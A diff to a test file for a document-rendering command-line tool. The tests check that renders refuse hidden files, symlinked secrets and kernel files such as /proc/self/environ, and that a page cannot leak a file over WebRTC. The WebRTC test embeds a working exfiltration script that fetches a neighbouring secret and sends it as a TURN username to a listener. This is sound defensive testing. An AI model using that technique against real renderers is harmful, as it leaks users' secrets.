@@ -378,14 +378,50 @@ console.log("GSTACK_STEP_OK");`, '--allow-file-urls', '--out', join(docs, 'print
 test('a header or footer file under a hidden name, and any kernel file a render would read, are usage errors', async () => {
   const md = join(docs, 'hf.md');
   writeFileSync(md, '# Body\n\ntext\n');
-  writeFileSync(join(docs, '.env'), 'API_KEY=SECRET-HF-1\n');
+  writeFileSync(join(docs, '.hf-env'), 'API_KEY=SECRET-HF-1\n');
   mkdirSync(join(docs, 'visible'), { recursive: true });
-  symlinkSync(join(docs, '.env'), join(docs, 'visible', 'header.html'));
-  for (const args of [['pdf', md, join(docs, 'hf1.pdf'), '--footer', '.env'], ['pdf', md, join(docs, 'hf2.pdf'), '--header', 'visible/header.html'], ['pdf', md, join(docs, 'hf3.pdf'), '--header', '/proc/self/environ'], ['render', md, '--pdf', join(docs, 'hf4.pdf'), '--footer', '/proc/version'], ['pdf', '/proc/version', join(docs, 'hf5.pdf')], ['diagram', '/proc/version']]) {
+  symlinkSync(join(docs, '.hf-env'), join(docs, 'visible', 'header.html'));
+  for (const args of [['pdf', md, join(docs, 'hf1.pdf'), '--footer', '.hf-env'], ['pdf', md, join(docs, 'hf2.pdf'), '--header', 'visible/header.html'], ['pdf', md, join(docs, 'hf3.pdf'), '--header', '/proc/self/environ'], ['render', md, '--pdf', join(docs, 'hf4.pdf'), '--footer', '/proc/version'], ['pdf', '/proc/version', join(docs, 'hf5.pdf')], ['diagram', '/proc/version']]) {
     const r = await gstack(args);
     expectExit(r, 2);
     assert.match(r.stderr, /hidden name|kernel file/, r.stderr);
     assert.doesNotMatch(r.stdout + r.stderr, /SECRET-HF-1|PATH=|Linux version/);
   }
   assert.ok(!existsSync(join(docs, 'hf1.pdf')) && !existsSync(join(docs, 'hf3.pdf')), 'nothing was rendered');
+});
+
+// Fourteenth red-team pass: a rendered page read a file next to it and sent it as a TURN
+// username over WebRTC, which no route sees, to an address of its choosing.
+test('a rendered page reaches no address over WebRTC: no STUN or TURN packet, UDP or TCP, leaves the render', async () => {
+  const dgram = await import('node:dgram');
+  const net = await import('node:net');
+  const hits: string[] = [];
+  const udp = dgram.createSocket('udp4');
+  udp.on('message', (m) => hits.push(`udp ${m.length} bytes`));
+  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
+  const tcp = net.createServer((s) => s.on('data', (d) => hits.push(`tcp ${d.length} bytes`)));
+  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
+  const udpPort = udp.address().port;
+  const tcpPort = (tcp.address() as import('node:net').AddressInfo).port;
+  try {
+    writeFileSync(join(docs, 'rtc-secret.txt'), 'SECRET-RTC-1\n');
+    writeFileSync(join(docs, 'rtc.html'), `<!doctype html><title>rtc</title><h1>x</h1><script>
+(async () => {
+  const sec = (await (await fetch('rtc-secret.txt')).text()).trim();
+  for (const url of ['turn:127.0.0.1:${udpPort}?transport=udp', 'turn:127.0.0.1:${tcpPort}?transport=tcp', 'stun:127.0.0.1:${udpPort}']) {
+    const pc = new RTCPeerConnection({ iceServers: [{ urls: url, username: sec, credential: 'c' }] });
+    pc.createDataChannel('x');
+    await pc.setLocalDescription(await pc.createOffer());
+  }
+  setTimeout(() => { window.done = true; }, 2500);
+})();
+</script>`);
+    const r = await gstack(['render', 'rtc.html', '--wait-expr', 'window.done === true', '--pdf', join(docs, 'rtc.pdf')]);
+    expectExit(r, 0);
+    await new Promise((res) => setTimeout(res, 1000));
+    assert.deepEqual(hits, [], 'WebRTC reached a listener');
+  } finally {
+    udp.close();
+    tcp.close();
+  }
 });
